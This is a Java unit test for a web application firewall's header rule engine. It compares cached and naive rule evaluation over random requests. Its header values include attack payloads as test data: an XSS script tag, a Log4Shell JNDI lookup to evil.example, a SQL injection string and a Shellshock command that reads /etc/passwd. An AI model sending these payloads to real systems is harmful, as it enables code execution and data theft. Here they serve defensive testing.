// Copyright 2026 The AppSec for Jakarta EE authors
// SPDX-License-Identifier: Apache-2.0
package io.github.appsecjakarta.waf;

import static org.assertj.core.api.Assertions.assertThat;

import io.github.appsecjakarta.waf.input.Limits;
import io.github.appsecjakarta.waf.internal.engine.Evaluation;
import io.github.appsecjakarta.waf.internal.engine.RuleProgram;
import io.github.appsecjakarta.waf.internal.engine.RuleSet;
import io.github.appsecjakarta.waf.rule.DefaultRules;
import io.github.appsecjakarta.waf.verdict.RuleMatch;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.Random;
import org.junit.jupiter.api.Test;

/** The headers of a client come again and again, and are not read again where they are clean. */
class RepeatedHeadersTest {
  private static final long SEED = 20261129;
  private static final int REQUESTS = 4000;
  private static final List<String> NAMES =
      List.of(
          "user-agent", "accept", "accept-language", "host", "origin", "referer", "x-own", "te");
  private static final List<String> VALUES =
      List.of(
          "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
          "curl/8.5.0",
          "en-GB,en;q=0.7",
          "shop.example",
          "*/*",
          "",
          "sqlmap/1.7",
          "<script>alert(1)</script>",
          "${jndi:ldap://evil.example/a}",
          "https://shop.example/?q=' or 1=1 --",
          "() { :; }; /bin/cat /etc/passwd",
          "AaAa", // these three have one hash
          "BBBB",
          "AaBB");

  /** A rule about one header, one about all: what is clean for one is not for the other. */
  private static final String RULES =
      """
      {"version": "2.2", "rules": [
        {"id": "one", "name": "one", "tags": {"type": "one", "category": "c"}, "conditions": [
          {"operator": "match_regex", "parameters": {"regex": "^AaAa$", "inputs": [
            {"address": "server.request.headers.no_cookies", "key_path": ["user-agent"]}]}}]},
        {"id": "all", "name": "all", "tags": {"type": "all", "category": "c"}, "conditions": [
          {"operator": "match_regex", "parameters": {"regex": "BBBB|shop", "inputs": [
            {"address": "server.request.headers.no_cookies"}]}}]},
        {"id": "names", "name": "names", "tags": {"type": "names", "category": "c"}, "conditions": [
          {"operator": "match_regex", "parameters": {"regex": "^te$", "inputs": [
            {"address": "server.request.headers.no_cookies"}]}, "transformers": ["keys_only"]},
          {"operator": "phrase_match", "parameters": {"list": ["curl"], "inputs": [
            {"address": "server.request.headers.no_cookies"}]}}]}]}
      """;

  @Test
  void verdictsAreThoseOfAnEngineThatRemembersNothing() {
    RuleSet rules = new RuleSet();
    DefaultRules.documents().forEach(file -> rules.put(file.getKey(), file.getValue()));
    rules.put("own", RULES.getBytes(StandardCharsets.UTF_8));
    RuleProgram naive = Objects.requireNonNull(rules.compileNaively());
    RuleProgram scanned = Objects.requireNonNull(rules.compile(rule -> false));
    Random random = new Random(SEED);
    int found = 0;
    for (int i = 0; i < REQUESTS; i++) {
      Map<String, Object> request = request(random);
      List<String> expected = matches(naive, request);
      assertThat(matches(scanned, request)).as("seed %d, %s", SEED, request).isEqualTo(expected);
      found += expected.size();
    }
    assertThat(found).isGreaterThan(REQUESTS / 4);
  }

  private static Map<String, Object> request(Random random) {
    Map<String, List<String>> headers = new LinkedHashMap<>();
    for (int n = random.nextInt(4); n >= 0; n--) {
      headers
          .computeIfAbsent(pick(random, NAMES), name -> new ArrayList<>())
          .add(pick(random, VALUES));
    }
    return Map.of("server.request.headers.no_cookies", headers);
  }

  private static String pick(Random random, List<String> of) {
    return new String(of.get(random.nextInt(of.size())).toCharArray());
  }

  private static List<String> matches(RuleProgram program, Map<String, Object> request) {
    List<String> matches = new ArrayList<>();
    for (RuleMatch match :
        new Evaluation(program, Limits.DEFAULT).run(request, Long.MAX_VALUE).matches()) {
      matches.add(match.ruleId() + " " + match.conditions());
    }
    return matches;
  }
}
